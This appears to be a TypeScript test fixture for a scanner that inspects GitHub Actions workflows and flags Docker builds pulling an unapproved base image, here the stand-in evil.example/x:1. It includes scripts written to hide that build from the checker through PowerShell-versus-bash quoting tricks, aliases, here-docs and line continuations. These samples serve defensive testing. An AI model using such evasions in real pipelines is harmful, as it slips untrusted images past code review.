import type { BuildChangeRow } from './build-changes.js';

const EVIL = 'evil.example/x:1';
const FLAG = `--build-arg BASE=${EVIL}`;
const BUILD = `docker build ${FLAG} .`;
const FLOW = '.github/workflows/build.yml';
const FOUND = [`Dockerfile:2 unapproved ${EVIL}`];
/** One text to bash, and a build between two texts to PowerShell. */
const HIDDEN = `Write-Host "\\"; ${BUILD}; Write-Host "\\" # "`;

const expression = (text: string) => `\${{ ${text} }}`;

/** `job`: the lines of the job before its steps. */
const row = (
  job: readonly string[],
  script: string,
  found: readonly string[],
  step: readonly string[] = [],
  { top = '', files = {} }: { readonly top?: string; readonly files?: BuildChangeRow['base'] } = {},
): BuildChangeRow => ({
  name: `${found.length === 0 ? 'quiet' : 'found'} in ${JSON.stringify(script)} (${[...job, ...step].join(' ')})`,
  base: { Dockerfile: 'ARG BASE=debian:trixie-slim\nFROM $BASE\n', ...files },
  change: {
    [FLOW]: [
      `on: push\n${top}jobs:\n  build:`,
      ...job.map((line) => `    ${line}`),
      '    steps:\n      - name: build',
      ...step.map((line) => `        ${line}`),
      '        run: |2',
      ...script.split('\n').map((line) => `          ${line}`),
      '',
    ].join('\n'),
  },
  found,
});

const runsOn = (labels: string): readonly string[] => [`runs-on: ${labels}`];
const inMatrix = (values: string): readonly string[] => [
  `runs-on: ${expression('matrix.os')}`,
  `strategy: { matrix: { os: ${values} } }`,
];

const MAYBE_WINDOWS: readonly (readonly string[])[] = [
  runsOn('windows-latest'),
  runsOn('[self-hosted, windows]'),
  runsOn('{ group: big, labels: windows }'),
  runsOn('{ group: big, labels: [windows-2022] }'),
  runsOn('{ group: win }'),
  runsOn(`"${expression(`fromJSON('[\\"windows-latest\\"]')`)}"`),
  runsOn(expression("github.sha && 'windows-latest'")),
  runsOn(expression('vars.R')),
  runsOn(`[self-hosted, "${expression('vars.R')}"]`),
  runsOn('self-hosted'),
  runsOn('[self-hosted, x64]'),
  runsOn('win25-xl'),
  inMatrix('[ubuntu-latest, windows-latest]'),
  inMatrix('[[self-hosted, windows]]'),
  inMatrix(`"${expression('fromJSON(vars.R)')}"`),
  [
    `runs-on: ${expression(`fromJSON('{"a":"ubuntu-26.04","b":"windows-2025"}')[matrix.os]`)}`,
    'strategy: { matrix: { os: [a, b] } }',
  ],
];

const KNOWN_UNIX: readonly (readonly string[])[] = [
  runsOn('ubuntu-latest'),
  runsOn('macos-15'),
  runsOn('[self-hosted, linux, x64]'),
  runsOn('{ group: big, labels: ubuntu-24.04-8core }'),
  runsOn('buildjet-4vcpu-ubuntu-2204'),
  runsOn(`ubuntu-${expression('vars.R')}`),
  runsOn(`"${expression(`fromJSON('[\\"self-hosted\\", \\"Linux\\"]')`)}"`),
  inMatrix('[ubuntu-latest, macos-latest]'),
  inMatrix('[[self-hosted, linux]]'),
  [
    `runs-on: ${expression(`fromJSON('{"amd64":"ubuntu-26.04","arm64":"ubuntu-26.04-arm"}')[matrix.arch]`)}`,
    'strategy: { matrix: { arch: [amd64, arm64] } }',
  ],
  [...runsOn('self-hosted'), 'container: alpine'],
  [...runsOn('self-hosted'), 'defaults: { run: { shell: bash } }'],
];

/** What only PowerShell runs, or runs with other words. */
const HIDING: readonly string[] = [
  HIDDEN,
  `docker build --label "\\" --build-arg BASE=${EVIL} --label "\\" .`,
  `Write-Host ‘a' ; ${BUILD} # '`,
  `cat <# <<END\n#>\n${BUILD}\n# END`,
  `docker build --build-arg BASE=${EVIL} . --label \\\nx --build-arg BASE=debian:13`,
  `Set-Alias d docker; d build --build-arg BASE=${EVIL} .`,
];

/** What people write for bash, whose variables PowerShell does not know. */
const HONEST: readonly string[] = [
  'docker build --build-arg BASE=$BASE .',
  'docker build \\\n  --build-arg "BASE=$BASE" \\\n  -t x:$(git rev-parse HEAD) \\\n  .',
  'ARGS="--build-arg BASE=debian:13"\nif [ -n "$CI" ]; then\n  docker build $ARGS .\nfi',
  'for tag in a b; do\n  docker build --build-arg BASE="$BASE" -t "x:$tag" . && docker push "x:$tag"\ndone',
  'curl -d "{\\"text\\": \\"a\\"}" https://x.example\necho a\necho b\ndocker build --build-arg BASE=$BASE .',
  'echo "A=b" >> "$GITHUB_ENV"\ndocker build --build-arg BASE=$BASE .',
  'cat > notes.txt <<END\nall of it "as is"\nEND\ndocker build --build-arg BASE=$BASE .',
];

/** Lines that go on in the next one, which PowerShell refuses, or of which it builds nothing of the repository. */
const WEB = {
  'web/Dockerfile': 'FROM debian:trixie-slim\n',
  'odd/df': `FROM ${EVIL}\n`,
  'docker-bake.hcl': 'target "web" { context = "web" }\n',
};
const GOING_ON: readonly string[] = [
  'docker build \\\n  -t acme/web:1 \\\n  web',
  'docker build \\\n  --build-arg A=$A \\\n  web',
  'docker build -t x \\\n  web',
  'docker build \\\n  web && docker push x',
  'if true; then\n  docker build \\\n    --tag x --file web/Dockerfile \\\n    web\nfi',
  'docker buildx build --load \\\n  "web"',
  'docker buildx bake \\\n  web',
  'docker build -t x -f web/Dockerfile \\\n  web',
];

/** The root of the drive has a Dockerfile, or the mark is not the context. */
const FILLED: readonly (readonly [string, readonly string[]])[] = [
  ['cp odd/df /Dockerfile\ndocker build -t x \\\n  web', [`${FLOW}:9 unresolved`]],
  ['cp odd/df \\\n  x\ndocker build -t x \\\n  web', [`${FLOW}:10 unresolved`]],
  ['mv odd/df C:\\Dockerfile\ndocker build \\\n  web', [`${FLOW}:9 unresolved`]],
  ['docker build /\n', [`${FLOW}:8 unresolved`]],
  ['docker build -f odd/df . --label \\\nx -f web/Dockerfile', ['odd/df:1 unapproved evil.example/x:1']],
  ['docker build \\\n  -t x \\\n  -f odd/df .', ['odd/df:1 unapproved evil.example/x:1']],
];

const ENVIRONMENT = 'env: { BASE: "debian:13" }\n';

/** Names of variables have no case on Windows. */
const CASELESS = [
  ['windows-latest', FOUND],
  ['ubuntu-latest', []],
  ['self-hosted', ['Dockerfile:2 unresolved']],
] as const;

/** In a container it is the sh of the image, which may have no `declare`. */
const IN_SH = `B=${EVIL}; declare B=debian || :; docker build --build-arg BASE=$B .`;
const CONTAINERS: readonly BuildChangeRow[] = [
  ...['docker:28', '{ image: docker:28 }', expression('matrix.c')].map((container) =>
    row([...runsOn('ubuntu-latest'), `container: ${container}`], IN_SH, FOUND),
  ),
  row([...runsOn('ubuntu-latest'), 'container: docker:28'], IN_SH, [], ['shell: bash']),
  row(runsOn('ubuntu-latest'), IN_SH, []),
];

export const RUNNER_CHANGES: readonly BuildChangeRow[] = [
  ...MAYBE_WINDOWS.map((job) => row(job, HIDDEN, FOUND)),
  row(runsOn('self-hosted'), `$env:BASE = "${EVIL}"\ndocker build --build-arg BASE=$env:BASE .`, [
    `Dockerfile:2 unapproved ${EVIL}`,
    'Dockerfile:2 unresolved',
  ]),
  ...HIDING.map((script) => row(runsOn('self-hosted'), script, FOUND)),
  ...KNOWN_UNIX.map((job) => row(job, HIDDEN, [])),
  ...HONEST.flatMap((script) => [
    row(runsOn('self-hosted'), script, [], [], { top: ENVIRONMENT }),
    row(runsOn(expression('vars.R')), script, [], [], { top: ENVIRONMENT }),
  ]),
  ...GOING_ON.flatMap((script) =>
    ['self-hosted', expression('vars.R'), '{ group: big }'].map((labels) =>
      row(runsOn(labels), script, [], [], { files: WEB }),
    ),
  ),
  ...FILLED.map(([script, found]) => row(runsOn('self-hosted'), script, found, [], { files: WEB })),
  row([...runsOn('ubuntu-latest'), 'strategy: { matrix: { s: [bash, pwsh] } }'], HIDDEN, FOUND, [
    `shell: "${expression('matrix.s')}"`,
  ]),
  row(
    [...runsOn('ubuntu-latest'), 'strategy: { matrix: { s: [bash, sh] } }'],
    HIDDEN,
    [],
    [`shell: "${expression('matrix.s')}"`],
  ),
  row(
    [
      ...runsOn('ubuntu-latest'),
      'strategy: { matrix: { s: [pwsh] } }',
      `defaults: { run: { shell: "${expression('matrix.s')}" } }`,
    ],
    HIDDEN,
    FOUND,
  ),
  row(runsOn('self-hosted'), HIDDEN, [], ['shell: bash']),
  ...CASELESS.map(([labels, found]) =>
    row(
      runsOn(labels),
      'docker build --build-arg BASE .',
      found,
      [`env: { base: "${EVIL}" }`, 'shell: bash'],
      { top: ENVIRONMENT },
    ),
  ),
  ...CONTAINERS,
];
